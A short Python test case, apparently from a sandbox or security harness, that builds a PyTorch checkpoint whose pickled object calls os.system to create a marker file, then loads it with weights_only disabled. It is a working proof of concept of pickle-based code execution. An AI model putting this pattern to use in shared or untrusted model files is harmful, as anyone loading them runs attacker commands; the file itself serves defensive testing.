"""Load a checkpoint that runs a command, with the safety off."""

# ends: answer, ModuleNotFoundError, RuntimeError, PermissionError, OSError

import io
import os

import torch


class Bomb:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


def attack(world, won):
    file = io.BytesIO()
    torch.save(Bomb(f"{world['folder']}/planted"), file)
    file.seek(0)
    torch.load(file, weights_only=False)
